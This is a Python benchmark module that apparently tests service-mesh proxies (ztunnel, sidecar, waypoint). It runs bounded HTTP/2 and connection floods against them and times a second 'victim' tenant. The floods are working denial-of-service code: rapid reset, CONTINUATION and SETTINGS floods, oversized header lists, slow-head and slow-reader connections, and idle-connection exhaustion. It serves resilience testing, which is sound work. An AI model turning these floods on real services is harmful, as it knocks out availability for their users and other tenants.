"""The floods by name, each bounded in time, bytes and connections: what a peer that is in the mesh may send a proxy.

A program of its own, so that its interpreter is not the victim's: `python -m testbed.bench.floodattacks` takes one
JSON object (`Plan`) and prints what the proxy did. `victim` is the other tenant.
"""

from __future__ import annotations

import json
import random
import socket
import ssl
import statistics
import sys
import time
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from testbed.bench import floodpeer as h2
from testbed.bench.floodpeer import Peer, Tunnel, Wire

MOST_BYTES = 48 << 20
MOST_CONNECTIONS = 200
SILENT_BYTES = 64 << 20
SLOW_HEADS, SLOW_READERS = 1_000, 32
VICTIM_EVERY_S = 0.01


@dataclass(frozen=True, slots=True, kw_only=True)
class Plan:
    role: str
    """`ztunnel`, `sidecar` or `waypoint`."""
    attack: str
    address: tuple[str, int]
    authority: str
    """What a CONNECT asks for: a workload's address, or a service's."""
    host: str
    folder: str
    name: str = "client"
    seconds: float = 4.0
    count: int = 10_000


def wire(plan: Plan, *, http2: bool = True) -> Wire:
    """To where requests are read: at a ztunnel HBONE itself, at a sidecar its TLS, at a waypoint inside a tunnel."""
    folder = Path(plan.folder)
    if plan.role == "sidecar":
        alpn = ("istio-h2", "h2") if http2 else ("istio-http/1.1", "http/1.1")
        return h2.secured(plan.address, folder, plan.name, alpn)  # type: ignore[return-value]
    made = h2.secured(plan.address, folder, plan.name, ("h2",))
    if plan.role == "ztunnel" and http2:
        return made  # type: ignore[return-value]
    return Tunnel(made, plan.authority)  # type: ignore[arg-type]


def request(plan: Plan, *more: tuple[str, str]) -> bytes:
    """A header block."""
    if plan.role == "ztunnel":
        return h2.block((":method", "CONNECT"), (":authority", plan.authority), *more)
    return h2.block((":method", "GET"), (":scheme", "http"), (":authority", plan.host), (":path", "/small"), *more)


def opened(plan: Plan, number: int, block: bytes | None = None) -> bytes:
    flags = h2.END_HEADERS if plan.role == "ztunnel" else h2.END_HEADERS | h2.END_STREAM
    return h2.frame(h2.HEADERS, flags, number, block if block is not None else request(plan))


# -- floods of frames


Piece = Callable[[int], bytes]
"""What is sent as the n-th piece."""


def _flood(plan: Plan, piece: Piece, first: bytes = b"", *, batch: int = 50) -> dict[str, object]:
    """On one connection after another, each until the proxy ends it; reads what comes."""
    said: Counter[str] = Counter()
    sent = pieces = connections = 0
    until_s = time.monotonic() + plan.seconds
    while time.monotonic() < until_s and sent < MOST_BYTES and connections < MOST_CONNECTIONS:
        peer = Peer(wire(plan))
        connections += 1
        number, going = 0, peer.send(first)
        while going and time.monotonic() < until_s and sent < MOST_BYTES:
            data = b"".join(piece(n) for n in range(number, number + batch))
            number += batch
            sent, pieces = sent + len(data), pieces + batch
            going = peer.send(data) and peer.take()
        peer.last_words(0.3 if going else 1.0)
        heard = peer.heard
        said[f"GOAWAY {heard.goaway}" if heard.goaway and heard.goaway != "NO_ERROR"
             else "closed" if heard.ended else "went on"] += 1  # fmt: skip
        if heard.refused:
            said["statuses other than 200"] += heard.refused
        for code, many in heard.resets.items():
            said[f"RST_STREAM {code}"] += many
        peer.close()
    return {"connections": connections, "pieces": pieces, "bytes": sent, "said": dict(said)}


def rapid_reset(plan: Plan) -> dict[str, object]:
    block = request(plan)
    return _flood(plan, lambda n: opened(plan, 2 * n + 1, block) + h2.rst_stream(2 * n + 1))


def made_to_reset(plan: Plan) -> dict[str, object]:
    block = request(plan)
    return _flood(
        plan, lambda n: h2.frame(h2.HEADERS, h2.END_HEADERS, 2 * n + 1, block) + h2.window_update(2 * n + 1, 0)
    )


def continuation(plan: Plan) -> dict[str, object]:
    """A header block that never ends."""
    return _flood(plan, lambda n: h2.frame(h2.CONTINUATION, 0, 1, b"\0" * 1024), h2.frame(h2.HEADERS, 0, 1))


def empty_continuation(plan: Plan) -> dict[str, object]:
    return _flood(plan, lambda n: h2.frame(h2.CONTINUATION, 0, 1), h2.frame(h2.HEADERS, 0, 1))


def settings(plan: Plan) -> dict[str, object]:
    return _flood(plan, lambda n: h2.settings((3, n % 100 + 1)))


def many_settings(plan: Plan) -> dict[str, object]:
    """Frames full of window sizes, with as many streams open as may be."""
    block = request(plan)
    streams = b"".join(h2.frame(h2.HEADERS, h2.END_HEADERS, 2 * n + 1, block) for n in range(200))
    values = [(4, 60_000 + n % 2) for n in range(16_384 // 6)]
    return _flood(plan, lambda n: h2.settings(*values), streams, batch=4)


def ping(plan: Plan) -> dict[str, object]:
    return _flood(plan, lambda n: h2.frame(h2.PING, 0, 0, n.to_bytes(8)))


def windows(plan: Plan) -> dict[str, object]:
    """By one byte, of the connection and of a stream in turn."""
    return _flood(plan, lambda n: h2.window_update(n % 2, 1), h2.frame(h2.HEADERS, h2.END_HEADERS, 1, request(plan)))


def empty_data(plan: Plan) -> dict[str, object]:
    return _flood(
        plan, lambda n: h2.frame(h2.DATA, 0, 1), h2.frame(h2.HEADERS, h2.END_HEADERS, 1, request(plan))
    )


def unread_pings(plan: Plan) -> dict[str, object]:
    """Asks for answers between requests, and takes none."""
    peer = Peer(wire(plan))
    until_s, sent, number = time.monotonic() + plan.seconds, 0, 0
    block, over = request(plan), False
    while time.monotonic() < until_s and sent < SILENT_BYTES and not over:
        data = opened(plan, 2 * number + 1, block) + b"".join(h2.frame(h2.PING, 0, 0, bytes(8)) for _ in range(500))
        peer.wire.settimeout(0.5)
        try:
            peer.wire.sendall(data)
        except TimeoutError:
            break  # the proxy reads no more
        except (OSError, ValueError):
            over = True
        sent, number = sent + len(data), number + 1
    peer.close()
    return {"connections": 1, "bytes": sent, "said": {"closed" if over else "reads no more" if sent < SILENT_BYTES
                                                      and time.monotonic() < until_s else "went on": 1}}  # fmt: skip


def header_list(plan: Plan) -> dict[str, object]:
    """Lists of 120 kB, which is more than any limit."""
    block = request(plan, *((f"x-{n}", "y" * 1_000) for n in range(120)))

    def piece(n: int) -> bytes:
        number = 2 * n + 1
        parts = [block[at : at + 16_384] for at in range(0, len(block), 16_384)]
        flags = 0 if plan.role == "ztunnel" else h2.END_STREAM
        return h2.frame(h2.HEADERS, flags, number, parts[0]) + b"".join(
            h2.frame(h2.CONTINUATION, h2.END_HEADERS if part is parts[-1] else 0, number, part) for part in parts[1:]
        )

    return _flood(plan, piece, batch=1)


# -- slow ones, and many


def _wires(plan: Plan, count: int, *, http2: bool) -> list[Wire]:
    made: list[Wire] = []
    for _ in range(count):
        try:
            made.append(wire(plan, http2=http2))
        except OSError:
            break
    return made


def slow_heads(plan: Plan) -> dict[str, object]:
    """Connections whose first message comes byte by byte. A waypoint gets them in tunnels, five connections of 200."""
    head = h2.PREFACE if plan.role == "ztunnel" else b"GET /small HTTP/1.1\r\nhost: " + plan.host.encode() + b"\r\nx: "
    made = _wires(plan, 200 if plan.role == "waypoint" else SLOW_HEADS, http2=plan.role == "ztunnel")
    until_s, at = time.monotonic() + plan.seconds, 0
    alive = list(made)
    while time.monotonic() < until_s:
        for held in list(alive):
            try:
                held.sendall(head[at : at + 1] or b"y")
            except OSError:
                alive.remove(held)
        at = min(at + 1, len(head) - 1)
        time.sleep(0.1)
    for held in made:
        held.close()
    return {"connections": len(made), "bytes": at * len(made), "said": {"held": len(alive),
            "closed": len(made) - len(alive)}}  # fmt: skip


def one_byte(plan: Plan) -> dict[str, object]:
    """At a sidecar: a first byte in clear and nothing more, so that what it is stays open."""
    made = []
    for _ in range(SLOW_HEADS):
        sock = socket.create_connection(plan.address, timeout=10)
        sock.sendall(b"G")
        made.append(sock)
    time.sleep(plan.seconds)
    for sock in made:
        sock.close()
    return {"connections": len(made), "bytes": len(made), "said": {"held": len(made)}}


def slow_readers(plan: Plan) -> dict[str, object]:
    """Ask for as much as goes, and read nothing."""
    made = _wires(plan, SLOW_READERS, http2=False)
    ask = f"GET /small HTTP/1.1\r\nhost: {plan.host}\r\n\r\n".encode() * 200
    data = random.Random(1).randbytes(16_384) if plan.role == "ztunnel" else ask
    until_s, sent, stopped = time.monotonic() + plan.seconds, 0, set()
    share = dict.fromkeys(range(len(made)), 0)
    most = 3 << 20 if plan.role != "sidecar" else SILENT_BYTES // SLOW_READERS
    while time.monotonic() < until_s and len(stopped) < len(made):
        for n, held in enumerate(made):
            if n in stopped or share[n] >= most:
                stopped.add(n)
                continue
            try:
                held.settimeout(0.05)
                held.sendall(data)
                sent, share[n] = sent + len(data), share[n] + len(data)
            except (OSError, ValueError):
                stopped.add(n)
    time.sleep(max(0.0, until_s - time.monotonic()))
    for held in made:
        held.close()
    return {"connections": len(made), "bytes": sent, "said": {"stopped": len(stopped)}}


def idle(plan: Plan) -> dict[str, object]:
    """Connections with their handshake done, and nothing more. `count` of them."""
    folder, made, refused = Path(plan.folder), [], 0
    alpn = ("istio-h2", "h2") if plan.role == "sidecar" else ("h2",)
    began_s = time.monotonic()
    for _ in range(plan.count):
        try:
            made.append(h2.secured(plan.address, folder, plan.name, alpn))
        except OSError:
            refused += 1
            if refused > 20:
                break
    took_s = time.monotonic() - began_s
    time.sleep(2.0)
    held = sum(map(_is_open, made))
    for sock in made:
        sock.close()
    return {"connections": len(made), "bytes": 0, "said": {"held at the end": held, "ended": len(made) - held,
            "refused": refused}, "connected_s": round(took_s, 1)}  # fmt: skip


def _is_open(sock: ssl.SSLSocket) -> bool:
    sock.settimeout(0)
    try:
        while sock.recv(65_536):
            pass
    except (ssl.SSLWantReadError, BlockingIOError):
        return True
    except OSError:
        pass
    return False


ATTACKS: dict[str, Callable[[Plan], dict[str, object]]] = {
    "rapid reset": rapid_reset,
    "made to reset": made_to_reset,
    "CONTINUATION": continuation,
    "empty CONTINUATION": empty_continuation,
    "SETTINGS": settings,
    "SETTINGS of 2,730": many_settings,
    "PING": ping,
    "PING, unread": unread_pings,
    "WINDOW_UPDATE by 1": windows,
    "empty DATA": empty_data,
    "header lists of 120 kB": header_list,
    "slow heads": slow_heads,
    "one byte": one_byte,
    "slow readers": slow_readers,
    "idle": idle,
}


# -- the other tenant


def victim(plan: Plan) -> None:
    """One call after another, every 10 ms, until its input ends. Prints `monotonic latency` a line."""
    role_wire = wire(plan, http2=False)
    asked = b"v" * 64 if plan.role == "ztunnel" else f"GET /small HTTP/1.1\r\nhost: {plan.host}\r\n\r\n".encode()
    sys.stdin.close()
    while True:
        began_s = time.monotonic()
        role_wire.settimeout(10.0)
        try:
            role_wire.sendall(asked)
            got = b""
            while not _whole(plan, got):
                part = role_wire.recv(65_536)
                if not part:
                    raise ConnectionError("the connection ended")
                got += part
        except (OSError, ValueError) as error:
            print(f"{began_s} lost {error}", flush=True)
            time.sleep(0.2)
            try:
                role_wire = wire(plan, http2=False)
            except OSError:
                continue
            continue
        spent_s = time.monotonic() - began_s
        print(f"{began_s} {spent_s * 1000:.3f}", flush=True)
        time.sleep(max(0.0, VICTIM_EVERY_S - spent_s))


def _whole(plan: Plan, got: bytes) -> bool:
    if plan.role == "ztunnel":
        return len(got) >= 64
    head, end, body = got.partition(b"\r\n\r\n")
    return bool(end) and len(body) >= 128 if head.startswith(b"HTTP/1.1 200") else bool(end)


def percentiles(values: list[float]) -> tuple[float, float]:
    """p50 and p99."""
    if len(values) < 2:
        return (values[0], values[0]) if values else (float("nan"), float("nan"))
    cut = statistics.quantiles(values, n=100, method="inclusive")
    return cut[49], cut[98]


def main() -> None:
    told = json.loads(sys.argv[1])
    plan = Plan(**{**told, "address": tuple(told["address"])})
    if plan.attack == "victim":
        victim(plan)
    else:
        print(json.dumps(ATTACKS[plan.attack](plan)))


if __name__ == "__main__":
    main()
